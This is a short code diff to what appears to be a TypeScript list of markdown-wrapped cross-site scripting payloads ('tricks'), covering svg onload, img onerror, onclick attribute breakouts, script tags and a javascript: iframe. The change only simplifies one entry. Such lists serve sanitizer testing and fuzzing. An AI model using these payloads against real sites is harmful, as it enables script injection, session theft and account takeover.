@@ -27,7 +27,7 @@ export const markdown: readonly Trick[] = [
   ({ js }) => `| <svg onload=${js}> | b |\n|---|---|\n| c | d |`,
   ({ js }) => `| <img src=x onerror=${js}> | b |\n|:-:|--:|\n| c | <svg onload=${js}> |`,
   ({ js }) => `| a | b |\n|:-" onclick="${js}|--:|\n| c | d |`,
-  ({ js }) => `| a |\n|:--|\n${`| "style="background:red" <i onclick=${js}> |\n`.repeat(3)}`,
+  ({ js }) => `| a |\n|:--|\n| "style="background:red" <i onclick=${js}> |`,
   ({ js }) => `# <img src=x onerror=${js}>`,
   ({ js }) => `x\n===\n<script>${js}</script>\n---`,
   ({ js }) => `> <iframe src="javascript:${js}"></iframe>`,
